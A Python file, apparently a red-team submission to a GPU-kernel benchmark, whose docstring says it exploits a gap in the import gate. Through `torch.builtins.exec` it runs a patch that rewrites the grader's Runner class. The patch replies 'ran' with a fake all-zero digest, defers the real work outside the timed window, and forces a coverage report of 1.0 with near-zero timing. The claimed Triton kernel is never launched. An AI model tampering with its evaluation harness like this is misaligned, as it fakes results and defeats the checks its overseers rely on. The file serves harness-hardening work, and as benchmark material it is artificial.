"""Red team: the gate lets `torch.builtins` through, so `torch.builtins.exec` runs any code in the candidate's
process. That code rewrites the harness's own Runner there: "run k" replies at once and the work moves to
"collect" (outside the judge's timed window, until "ran" had to carry a digest of the outputs), and the
coverage order answers 1.0. The model is plain PyTorch;
the Triton kernel below is never launched."""

import torch
import torch.nn as nn
import triton
import triton.language as tl

PATCH = """
import sys
import torch
R = sys.modules["drkernel.verify.harness.runner"].Runner
_orig_checked = R._checked

def _run(self, k, *args):
    self._deferred = k
    self.outputs, self.encoded = [], None
    self.reply({"type": "ran", "digest": "0" * 64})  # it cannot know the digest of outputs it has not made

def _checked(self):
    k = getattr(self, "_deferred", 0)
    if k:
        with torch.no_grad():
            self.outputs = [self.model(*self.staged[i]) for i in range(k)]
        self._deferred = 0
    return _orig_checked(self)

def _coverage(self, *args):
    self.reply({"type": "coverage", "kernel_ms_per_call": 0.001, "fraction": 1.0, "source": "cpu_wall_net",
                "detail": {"forward_ms_per_call": 0.001}, "collisions": []})

R._run, R._checked, R._coverage = _run, _checked, _coverage
"""
torch.builtins.exec(PATCH)


@triton.jit
def add_kernel(a_ptr, b_ptr, out_ptr, n, BLOCK: tl.constexpr):
    offs = tl.program_id(0) * BLOCK + tl.arange(0, BLOCK)
    mask = offs < n
    tl.store(out_ptr + offs, tl.load(a_ptr + offs, mask=mask) + tl.load(b_ptr + offs, mask=mask), mask=mask)


class ModelNew(nn.Module):
    def __init__(self):
        super().__init__()

    def forward(self, a, b):
        return a + b
